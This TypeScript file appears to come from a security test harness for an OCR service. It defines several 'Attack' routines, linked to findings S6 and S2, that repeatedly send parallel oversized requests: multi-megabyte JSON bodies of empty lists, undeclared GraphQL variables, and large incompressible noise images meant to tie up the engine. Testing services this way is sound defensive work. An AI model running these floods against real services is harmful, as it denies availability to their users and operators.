import { randomBytes, randomUUID } from 'node:crypto';
import sharp from 'sharp';
import { ocrBody } from '../../house/ocr-body.ts';
import type { Attack } from '../attack.ts';
import { persist } from '../persist.ts';
import { ask, byKey } from './ask.ts';
import { onceFor } from './once-for.ts';
import { PIXEL_INPUT, post } from './post.ts';

/** Empty lists: many times their bytes once they are parsed. */
const listsOf = (count: number) => Array(count).fill('[]').join(',');
/** As many of them as a body may have, and text to fill it. */
const LARGE_VALUE = `["${'x'.repeat(9_500_000)}",${listsOf(70_000)}]`;

/** More values than any call has: each is refused before it is parsed. */
export const tooManyValues: Attack = {
  name: 'fourteen calls over and over with ten megabytes of empty lists in a field that nobody knows',
  finding: 'S6',
  run: ({ funded }, signal) => {
    const text = bodyWith(`[${listsOf(3_200_000)}]`);
    return persist(signal, { width: 14, pauseMs: 1000 }, () => post(funded, text, signal));
  },
};

/** The engine has one place, and 20 s for each call: all of them wait, with whatever is kept of them. */
export const unknownFields: Attack = {
  name: 'fourteen calls that wait with ten megabytes in a field that nobody knows',
  finding: 'S6',
  run: ({ funded }, signal) => {
    const text = bodyWith(LARGE_VALUE);
    return persist(signal, { width: 14, pauseMs: 1000 }, () => post(funded, text, signal));
  },
};

function bodyWith(unknown: string): string {
  return `{"engine":"stuck","input":${JSON.stringify(PIXEL_INPUT)},"unknown":${unknown}}`;
}

export const undeclaredVariables: Attack = {
  name: 'fourteen GraphQL calls that wait with as much in a variable that they do not declare',
  finding: 'S6',
  run: ({ url, funded }, signal) => {
    const request = { engine: 'stuck', input: { type: 'base64', dataBase64: PIXEL_INPUT.data_base64 } };
    const query = `mutation ($request: OcrRequestInput!, $key: String!) {
      submitOcr(request: $request, idempotencyKey: $key) { id }
    }`;
    const bodyOf = (key: string) => {
      const variables = `{"request":${JSON.stringify(request)},"key":"${key}","unknown":${LARGE_VALUE}}`;
      return `{"query":${JSON.stringify(query)},"variables":${variables}}`;
    };
    return persist(signal, { width: 14, pauseMs: 1000 }, () =>
      ask({ ...byKey({ url }, funded), body: bodyOf(randomUUID()) }, signal),
    );
  },
};

const SIDE = 1300;

/** Noise, which no packing makes smaller. */
const noise = onceFor(async () => {
  const raw = { width: SIDE, height: SIDE, channels: 3 } as const;
  const picture = sharp(randomBytes(SIDE * SIDE * raw.channels), { raw });
  return JSON.stringify(ocrBody('stuck', await picture.png({ compressionLevel: 0 }).toBuffer()));
});

export const waitingDocuments: Attack = {
  name: 'forty documents of five megabytes that wait for one place',
  finding: 'S2',
  prepare: noise,
  run: async (target, signal) => {
    const text = await noise(target);
    await persist(signal, { width: 40, pauseMs: 1000 }, () => post(target.funded, text, signal));
  },
};
